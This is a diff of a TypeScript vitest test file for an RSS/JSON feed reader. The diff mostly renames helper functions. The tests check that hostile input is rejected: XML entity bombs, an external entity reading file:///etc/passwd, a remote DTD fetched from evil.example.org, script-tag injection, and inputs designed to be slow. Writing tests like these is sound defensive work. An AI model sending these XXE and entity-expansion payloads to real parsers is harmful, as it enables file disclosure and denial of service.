@@ -1,5 +1,5 @@
 import { afterAll, expect, test } from "vitest";
-import { bytes, NOW, read, rss } from "./feed.fixture.ts";
+import { buildRss, NOW, read, toBytes } from "./feed.fixture.ts";
 import { FeedError } from "./feed-error.ts";
 import { createFeedReader } from "./feed-reader.ts";
 import { parseFeedArticles } from "./parse-feed-articles.ts";
@@ -9,7 +9,7 @@ afterAll(() => reader.close());
 
 /** A feed of 4 MB that consists of this HTML. */
 const repeatHtml = (html: string) =>
-  rss(
+  buildRss(
     `<item><title>t</title><description><![CDATA[${html.repeat(Math.ceil(90_000 / html.length))}]]></description></item>`.repeat(
       45,
     ),
@@ -35,7 +35,7 @@ test("markup is removed no matter how it is wrapped", () => {
   ];
   for (const attack of attacks) {
     const [item] = read(
-      rss(
+      buildRss(
         `<item><title>${attack}</title><description>${attack}</description><author>${attack}</author></item>`,
       ),
     ).items;
@@ -46,16 +46,16 @@ test("markup is removed no matter how it is wrapped", () => {
 });
 
 test("custom entities, excessive depth and excessive size are rejected before parsing", () => {
-  const bomb = (entities: string) =>
-    `<?xml version="1.0"?><!DOCTYPE rss [${entities}]>${rss("<item><title>&z;</title></item>")}`;
-  expect(getProblem(bomb('<!ENTITY a "ha"><!ENTITY z "&a;&a;&a;">'))).toBe("hostile");
-  expect(getProblem(bomb('<!ENTITY z SYSTEM "file:///etc/passwd">'))).toBe("hostile");
-  expect(getProblem(bomb('<!ENTITY % z SYSTEM "https://evil.example.org/x.dtd"> %z;'))).toBe("hostile");
-  expect(getProblem(bomb(`<!ENTITY z "${"x".repeat(100_000)}">`))).toBe("hostile");
-  expect(getProblem(rss(`<item>${"<a>".repeat(200)}</item>`))).toBe("hostile");
-  expect(getProblem(rss("<i/>".repeat(300_000)))).toBe("hostile");
+  const buildBomb = (entities: string) =>
+    `<?xml version="1.0"?><!DOCTYPE rss [${entities}]>${buildRss("<item><title>&z;</title></item>")}`;
+  expect(getProblem(buildBomb('<!ENTITY a "ha"><!ENTITY z "&a;&a;&a;">'))).toBe("hostile");
+  expect(getProblem(buildBomb('<!ENTITY z SYSTEM "file:///etc/passwd">'))).toBe("hostile");
+  expect(getProblem(buildBomb('<!ENTITY % z SYSTEM "https://evil.example.org/x.dtd"> %z;'))).toBe("hostile");
+  expect(getProblem(buildBomb(`<!ENTITY z "${"x".repeat(100_000)}">`))).toBe("hostile");
+  expect(getProblem(buildRss(`<item>${"<a>".repeat(200)}</item>`))).toBe("hostile");
+  expect(getProblem(buildRss("<i/>".repeat(300_000)))).toBe("hostile");
   expect(getProblem('<!DOCTYPE rss [ <!ENTITY a "')).toBe("hostile");
-  expect(read(bomb('<!ENTITY nbsp "&#160;"><!ENTITY z "zed">')).items).toHaveLength(1);
+  expect(read(buildBomb('<!ENTITY nbsp "&#160;"><!ENTITY z "zed">')).items).toHaveLength(1);
 });
 
 test("anything that is not a feed is rejected with a reason", () => {
@@ -65,7 +65,7 @@ test("anything that is not a feed is rejected with a reason", () => {
     "{}",
     "{",
     "[1]",
-    "plain words",
+    "plain text",
     "<rss",
     "\0\0\0\0",
   ]) {
@@ -85,17 +85,17 @@ test("input designed to be slow stays within the time limit", async () => {
     repeatHtml("<img "),
     repeatHtml("<svg><script>"),
     repeatHtml("&amp;\n"),
-    rss(`<item><title>${"&lt;a ".repeat(FEED_SIZE / 6)}</title></item>`),
-    rss(`<item><title>${"&amp;".repeat(FEED_SIZE / 5)}</title></item>`),
-    rss("<item><title><![CDATA[".repeat(FEED_SIZE / 22)),
-    rss("<item><!--".repeat(FEED_SIZE / 10)),
+    buildRss(`<item><title>${"&lt;a ".repeat(FEED_SIZE / 6)}</title></item>`),
+    buildRss(`<item><title>${"&amp;".repeat(FEED_SIZE / 5)}</title></item>`),
+    buildRss("<item><title><![CDATA[".repeat(FEED_SIZE / 22)),
+    buildRss("<item><!--".repeat(FEED_SIZE / 10)),
     `<rss ${'a="1" '.repeat(FEED_SIZE / 6)}><channel><item><title>t</titl></item></channel></rss>`,
     `<!DOCTYPE rss [${" ".repeat(FEED_SIZE)}`,
     "<".repeat(FEED_SIZE),
     `{"version":"https://jsonfeed.org/version/1","items":[${"{},".repeat(FEED_SIZE / 3)}{}]}`,
   ];
   for (const text of slowFeeds) {
-    const feed = { bytes: bytes(text), contentType: "", url: "https://e.org/f", now: NOW };
+    const feed = { bytes: toBytes(text), contentType: "", url: "https://e.org/f", now: NOW };
     const problem = await patientReader.read(feed).then(
       () => null,
       (error: FeedError) => error.problem,
@@ -110,24 +110,29 @@ test("at most 500 items are read", () => {
     { length: 700 },
     (_, index) => `<item><title>t${index}</title><guid>g${index}</guid></item>`,
   ).join("");
-  expect(read(rss(items)).items).toHaveLength(500);
+  expect(read(buildRss(items)).items).toHaveLength(500);
 });
 
 test("the worker thread returns the same result, rejects slow input, and continues with the next feed", async () => {
-  const feed = (text: string) => ({ bytes: bytes(text), contentType: "", url: "https://e.org/f", now: NOW });
-  const good = rss("<item><title>Good</title></item>");
+  const buildDocument = (text: string) => ({
+    bytes: toBytes(text),
+    contentType: "",
+    url: "https://e.org/f",
+    now: NOW,
+  });
+  const validFeed = buildRss("<item><title>Good</title></item>");
   const readerWithShortTimeout = createFeedReader({ timeoutMs: 1 });
-  await expect(readerWithShortTimeout.read(feed(repeatHtml("<b>text</b>")))).rejects.toMatchObject({
+  await expect(readerWithShortTimeout.read(buildDocument(repeatHtml("<b>text</b>")))).rejects.toMatchObject({
     problem: "too_slow",
   });
   await readerWithShortTimeout.close();
 
-  const [first, bad, second] = await Promise.allSettled([
-    reader.read(feed(good)),
-    reader.read(feed("<html>")),
-    reader.read(feed(good)),
+  const [first, invalidResult, second] = await Promise.allSettled([
+    reader.read(buildDocument(validFeed)),
+    reader.read(buildDocument("<html>")),
+    reader.read(buildDocument(validFeed)),
   ]);
-  expect(first).toEqual({ status: "fulfilled", value: parseFeedArticles(feed(good)) });
-  expect(bad).toMatchObject({ status: "rejected", reason: { problem: "unreadable" } });
+  expect(first).toEqual({ status: "fulfilled", value: parseFeedArticles(buildDocument(validFeed)) });
+  expect(invalidResult).toMatchObject({ status: "rejected", reason: { problem: "unreadable" } });
   expect(second).toMatchObject({ status: "fulfilled" });
 });
